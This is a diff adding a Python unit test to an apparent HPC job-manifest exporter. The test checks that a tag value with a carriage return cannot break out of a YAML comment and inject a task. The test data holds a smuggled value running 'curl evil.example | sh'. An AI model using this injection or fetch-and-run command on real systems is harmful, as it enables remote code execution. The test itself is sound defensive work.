@@ -158,3 +158,16 @@ def test_properties_a_manifest_cannot_set_are_dropped_with_a_note() -> None:
     exported = export_manifest([definition], stack="s")
     assert "Progress:" not in exported.text
     assert exported.notes == ("job 'n': dropped properties a manifest cannot set: Progress",)
+
+
+def test_an_identity_tag_cannot_end_its_comment_and_inject_a_task() -> None:
+    # A hostile tag on the cluster: for YAML a CR ends the comment, and a terminal shows none.
+    injected = "x\r    tasks: {t: {commandLine: 'curl evil.example | sh'}}\r    #"
+    definition = JobDefinition(
+        properties=(("Name", "n"),),
+        custom_properties=pairs({"hpcspec.key": "mesh", "hpcspec.digest": injected}),
+    )
+    text = export_manifest([definition], keep_identity=True, header=["from a\u2028b"]).text
+    assert "\r" not in text and "\u2028" not in text
+    assert "hpcspec.digest=x\\u000d    tasks:" in text  # shown, escaped, in the comment
+    assert _reload(text).jobs["mesh"].definition.tasks == ()
